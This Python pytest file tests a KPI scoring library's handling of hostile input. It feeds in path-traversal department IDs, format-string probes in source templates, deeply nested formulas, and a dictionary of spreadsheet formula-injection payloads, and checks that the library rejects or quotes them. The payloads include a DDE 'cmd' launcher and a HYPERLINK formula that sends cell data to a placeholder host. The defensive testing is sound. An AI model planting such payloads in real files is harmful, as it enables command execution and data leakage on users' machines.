"""Faults and hostile input (issue 12): nothing partial, nothing lost, no traceback.

Each test makes its fault for real in a temporary folder: hostile plan files, a
store held by another process, a corrupt store, a full disk (RLIMIT_FSIZE), a
killed ``kpi report``, several processes at once.
"""

from __future__ import annotations

import csv
import shutil

import pandas as pd
import pytest

import kpilib
from kpilib.cli import main
from kpilib.engine.formula import Formula, FormulaError
from kpilib.engine.plan import load_plan
from kpilib.errors import PlanError
from kpilib.sheets.workbooks import defuse
from tests.conftest import ROOT

PLAN_TEXT = """\
department: {department}
name: {name}
sources: {{targets: t.csv, actuals: "{actuals}"}}
measures: {{a: {{}}, b: {{}}}}
indicators: {{GMV: {{formula: "{formula}", rule: {{type: ratio}}}}}}
grades: [{{name: 合格, min: 60}}, {{name: 不合格}}]
"""


def write_plan(folder, stem="t", department="t", name="测试部", actuals="{month}.csv", formula="a"):
    path = folder / f"{stem}.yaml"
    text = PLAN_TEXT.format(department=department, name=name, actuals=actuals, formula=formula)
    path.write_text(text, encoding="utf-8")
    return path


def only_problem(info):
    assert len(info.value.problems) == 1, info.value
    return info.value.problems[0]


# --- group 5: the file name and department: agree; a department is a plain ID -----------


def test_a_copied_plan_that_keeps_its_department_key_is_refused(tmp_path):
    # the copy would otherwise be stored as channel_ops' next version and become current
    text = (ROOT / "params/channel_ops.yaml").read_text(encoding="utf-8")
    copy = tmp_path / "channel_ops_copy.yaml"
    copy.write_text(text, encoding="utf-8")
    with pytest.raises(PlanError) as info:
        load_plan(copy)
    problem = only_problem(info)
    assert problem.file == str(copy) and problem.where == "department"
    assert "channel_ops_copy" in problem.fix


@pytest.mark.parametrize("department", ["../../../x", "a/b", "..", "a b", "x.y"])
def test_a_department_id_is_a_plain_name(tmp_path, department):
    path = write_plan(tmp_path, stem="t", department=f"'{department}'")
    with pytest.raises(PlanError) as info:
        load_plan(path)
    problem = info.value.problems[0]
    assert problem.file == str(path) and problem.where == "department"


def test_a_chinese_department_id_is_plain(tmp_path):
    assert (
        load_plan(write_plan(tmp_path, stem="渠道_2", department="渠道_2")).department == "渠道_2"
    )


# --- group 6 (plans): a folder, a GBK file -----------------------------------------------


def test_a_plan_path_that_is_a_folder_is_a_plan_error(tmp_path):
    with pytest.raises(PlanError) as info:
        load_plan(tmp_path)
    assert only_problem(info).file == str(tmp_path)
    assert "文件夹" in str(info.value)


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8-sig", "utf-16"])
def test_a_plan_saved_by_a_windows_editor_is_read(tmp_path, encoding):
    path = write_plan(tmp_path, name="渠道运营中心")
    path.write_bytes(path.read_text(encoding="utf-8").encode(encoding))
    assert load_plan(path).name == "渠道运营中心"


def test_a_plan_in_no_known_encoding_names_the_file_and_the_fix(tmp_path):
    path = write_plan(tmp_path)
    path.write_bytes(path.read_bytes() + b"\n# \x80\xff\xff\x80\n")  # not UTF-8, not GB18030
    with pytest.raises(PlanError) as info:
        load_plan(path)
    assert only_problem(info).file == str(path) and "UTF-8" in info.value.problems[0].fix


# --- group 7: formulas are bounded; a literal division by zero is found at load ----------


@pytest.mark.parametrize(
    "text",
    [
        "+".join(["a"] * 600),  # a 600-term chain: over the length bound
        "+".join(["a"] * 300),  # 300 terms in 599 characters: over the depth bound
        "-" * 500 + "a",  # 500 nested unary minus
        "-" * 100_000 + "a",
        "(" * 300 + "a" + ")" * 300,
    ],
)
def test_huge_or_deep_formulas_are_a_formula_error(text):
    with pytest.raises(FormulaError):
        Formula.parse(text)


def test_a_formula_of_ordinary_size_still_parses():
    f = Formula.parse("+".join(["a"] * 50))
    assert f.evaluate(lambda name: 2.0) == 100.0


def test_a_huge_formula_in_a_plan_names_the_key(tmp_path):
    path = write_plan(tmp_path, formula="-" * 500 + "a")
    with pytest.raises(PlanError) as info:
        load_plan(path)
    assert only_problem(info).where == "indicators.GMV.formula"


@pytest.mark.parametrize("formula", ["a / 0", "a / (1 - 1)", "b + a / 0.0", "a / (2 * 0)"])
def test_a_literal_division_by_zero_is_a_plan_error_at_load(tmp_path, formula):
    path = write_plan(tmp_path, formula=formula)
    with pytest.raises(PlanError) as info:
        load_plan(path)
    problem = only_problem(info)
    assert problem.file == str(path) and problem.where == "indicators.GMV.formula"
    assert "0" in problem.message


def test_a_divisor_that_depends_on_data_is_checked_per_person():
    # a / (b - 1) is zero only where b is 1: not a plan error
    assert Formula.parse("a / (b - 1)").names == {"a", "b"}


# --- group 8: source templates allow only {month} ----------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "{mon}.csv",
        "{0}.csv",
        "{month.__class__}.csv",
        "{month[0]}.csv",
        "{month!r}.csv",
        "{month:>20}.csv",
        "{}.csv",
        "{month.csv",
        "{period}.csv",
        "{year}/{month}.csv",
    ],
)
def test_a_source_template_names_only_month(tmp_path, template):
    path = write_plan(tmp_path, actuals=template)
    with pytest.raises(PlanError) as info:
        load_plan(path)
    problem = only_problem(info)
    assert problem.file == str(path) and problem.where == "sources.actuals"


def test_the_month_template_still_works(tmp_path):
    plan = load_plan(write_plan(tmp_path, actuals="actuals/{month}.csv"))
    assert plan.source("actuals", "2024-11") == (tmp_path / "actuals/2024-11.csv").resolve()


# --- group 10: CSV cells a spreadsheet would run are neutralized -------------------------

HOSTILE_NAMES = {
    "方磊": '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
    "冯雪": "+cmd|' /C calc'!A0",
    "彭丽": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def ecommerce_project(tmp_path, rename=None):
    """A copy of the ecommerce plan and its data, people renamed by ``rename``."""
    (tmp_path / "params").mkdir()
    shutil.copy(ROOT / "params/ecommerce.yaml", tmp_path / "params")
    shutil.copytree(ROOT / "data/ecommerce", tmp_path / "data/ecommerce")
    for path in (tmp_path / "data/ecommerce").rglob("*.csv"):
        table = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
        table["姓名"] = table["姓名"].replace(rename or {})
        table.to_csv(path, index=False, encoding="utf-8")
    return tmp_path / "params/ecommerce.yaml"


def test_formula_like_names_in_csv_outputs_are_quoted(tmp_path, capsys):
    names = pd.read_csv(ROOT / "data/ecommerce/targets.csv", encoding="utf-8-sig")["姓名"]
    assert set(HOSTILE_NAMES) <= set(names)
    plan = ecommerce_project(tmp_path, HOSTILE_NAMES)
    out = tmp_path / "out"
    assert main(["score", str(plan), "--month", "2024-11", "--out", str(out), "--no-store"]) == 0
    clean = kpilib.score_month(ROOT / "params/ecommerce.yaml", "2024-11").people
    for name in ("people.csv", "items.csv"):
        with open(out / name, encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        first_cells = {row[0] for row in rows[1:]}
        for hostile in HOSTILE_NAMES.values():
            assert hostile not in first_cells and f"'{hostile}" in first_cells
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    people = pd.read_csv(out / "people.csv", encoding="utf-8-sig")
    # scores are unchanged: the quote is on text cells only
    assert people["total"].tolist() == pytest.approx(clean["total"].tolist())


def test_negative_numbers_are_not_quoted_but_formula_text_is():
    table = pd.DataFrame(
        {"reason": ["-3", "-12.5%", "-x", "=1+1", "\tA", "正常", None], "points": [-3.5] * 7}
    )
    out = defuse(table)
    assert out["reason"][:6].tolist() == ["-3", "-12.5%", "'-x", "'=1+1", "'\tA", "正常"]
    assert pd.isna(out["reason"][6])
    assert out["points"].tolist() == [-3.5] * 7
    assert table["reason"][3] == "=1+1"  # the input is not changed


# --- group 9: text from users is shown literally -----------------------------------------

MATHTEXT = r"$\frac{1}{$"


def channel_ops_project(tmp_path, replace=None):
    """A project folder with channel_ops' plan (text replaced) and the shipped data."""
    (tmp_path / "params").mkdir()
    (tmp_path / "data").symlink_to(ROOT / "data")
    text = (ROOT / "params/channel_ops.yaml").read_text(encoding="utf-8")
    for old, new in (replace or {}).items():
        assert old in text
        text = text.replace(old, new)
    plan = tmp_path / "params/channel_ops.yaml"
    plan.write_text(text, encoding="utf-8")
    return plan


def test_a_plan_name_with_a_slash_makes_a_payroll_workbook(tmp_path):
    import openpyxl

    plan = channel_ops_project(tmp_path, {"name: 渠道运营中心": "name: 华东/华南:渠道[一]部"})
    store = str(tmp_path / "store.duckdb")
    assert main(["score", str(plan), "--month", "2024-11", "--out", str(tmp_path / "o")]) == 0
    out = tmp_path / "payroll.xlsx"
    args = ["payroll", str(plan), "--month", "2024-11", "--out", str(out)]
    assert main([*args, "--store", store]) == 2  # nothing stored there yet: refused, no crash
    assert main(args) == 0
    assert openpyxl.load_workbook(out).sheetnames == ["华东_华南_渠道_一_部 2024-11"]


def test_mathtext_in_names_is_drawn_literally():
    from kpilib.report import charts

    result = kpilib.score_month(ROOT / "params/channel_ops.yaml", "2024-11")
    items = result.items.assign(person=result.items["person"].replace("潘君捷", MATHTEXT))
    items["indicator"] = items["indicator"].replace("GMV指标", MATHTEXT)
    fig = charts.completion_heatmap(items, title=MATHTEXT)
    assert charts.to_png(fig).startswith(b"\x89PNG")
    labels = [t.get_text() for t in fig.axes[0].get_yticklabels()]
    assert MATHTEXT in labels and fig.axes[0].get_title() == MATHTEXT
